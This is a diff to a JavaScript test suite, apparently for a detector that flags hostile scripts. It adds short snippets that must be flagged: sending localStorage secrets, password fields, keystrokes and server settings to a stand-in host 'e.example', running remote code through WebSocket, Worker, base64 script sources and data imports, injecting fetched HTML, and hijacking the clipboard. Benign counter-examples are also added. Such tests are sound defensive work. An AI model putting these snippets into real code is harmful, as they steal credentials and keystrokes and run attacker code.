@@ -127,6 +127,59 @@ describe('the checks hold a script', () => {
       'const g = app.graphToPrompt; app.graphToPrompt = async () => { const r = await g(); navigator.sendBeacon("https://e.example", r); return r; };',
     ],
     ['that is long because of spaces', `${' '.repeat(70_000)}\nconst e = eval; fetch("https://e.example/p").then(e);`],
+    [
+      'that composes an address of a secret',
+      'const u = `https://e.example/?${btoa(localStorage.getItem("a"))}`; go(u);',
+    ],
+    [
+      'that sends a secret in a style',
+      'const t = localStorage.getItem("a"); s.textContent = `a { background: url(https://e.example/?${t}) }`;',
+    ],
+    [
+      'that sends what a loop finds',
+      'for (const i of document.querySelectorAll("input[type=password]")) fetch("https://e.example/?" + i.value);',
+    ],
+    [
+      'that sends the keys of a listener',
+      'let s = ""; addEventListener("keydown", (pressed) => { s += pressed.code; fetch("https://e.example/", { body: s }); });',
+    ],
+    [
+      'that sends what the host stores',
+      'const s = await (await fetch("/api/settings")).json(); fetch("https://e.example", { body: JSON.stringify(s) });',
+    ],
+    [
+      'that runs messages with more text',
+      'const w = new WebSocket("wss://e.example/"); w.onmessage = (e) => Function("return " + e.data)();',
+    ],
+    [
+      'that makes a worker of a fetched text',
+      'const t = await (await fetch("https://e.example/")).text(); new Worker(URL.createObjectURL(new Blob([t], { type: "text/javascript" })));',
+    ],
+    [
+      'that loads a script from a decoded address',
+      'const s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9lLmV4YW1wbGU="); document.head.append(s);',
+    ],
+    [
+      'that loads a script from the address of a constant',
+      'const u = "https://e.example/" + "a.js"; const s = document.createElement("script"); s.src = u + "?1";',
+    ],
+    ['that imports code from an address with data', 'import("data:text/javascript;base64,YWxlcnQoMSk=");'],
+    [
+      'that inserts a fetched page',
+      'fetch("https://e.example/a").then((r) => r.text()).then((t) => { e.insertAdjacentHTML("beforeend", t); });',
+    ],
+    [
+      'that inserts a fetched text into an attribute',
+      'const t = await (await fetch("https://e.example/a")).text(); e.innerHTML = `<img src=x onerror="${t}">`;',
+    ],
+    [
+      'that replaces what the user copies',
+      'addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "a"); e.preventDefault(); });',
+    ],
+    [
+      'that replaces the clipboard again and again',
+      'setInterval(() => { if (seen) navigator.clipboard.writeText("0x1"); }, 500);',
+    ],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(true));
 });
 
@@ -167,5 +220,29 @@ describe('the checks do not hold a script', () => {
       `${news}const r = localStorage.getItem("a"); d.innerHTML = '<a href="https://e.example">' + r + '</a>';`,
     ],
     ['that indexes a list', 'const c = colors["red"]; const m = window["app"]; m.draw(c);'],
+    ['that inserts a text of the same server', 'const t = await (await fetch("./help.html")).text(); e.innerHTML = t;'],
+    [
+      'that cleans what it inserts',
+      'const t = await (await fetch("https://e.example/a")).text(); e.innerHTML = clean(t);',
+    ],
+    ['that copies on a click', 'b.onclick = () => navigator.clipboard.writeText("a"); setInterval(() => draw(), 9);'],
+    [
+      'that copies what the user selected',
+      'addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", JSON.stringify(selected)); });',
+    ],
+    ['that reacts to keys', `${news}addEventListener("keydown", (e) => { if (e.key === "s") save(); });`],
+    [
+      'that loads a library from the address of a constant',
+      'const u = { three: "https://esm.sh/three" }; await import(u.three);',
+    ],
+    ['that runs a constant', `${news}const f = new Function("return this"); class A { eval(a) { return a; } }`],
+    [
+      'that shows the answer of a service',
+      'fetch("https://e.example/a").then((r) => r.json()).then((d) => { e.innerHTML = `<b>${d.name}</b>`; });',
+    ],
+    [
+      'that sends a setting to its own server only',
+      'api.fetchApi("/settings").then((r) => r.json()).then((s) => show(s));',
+    ],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
 });
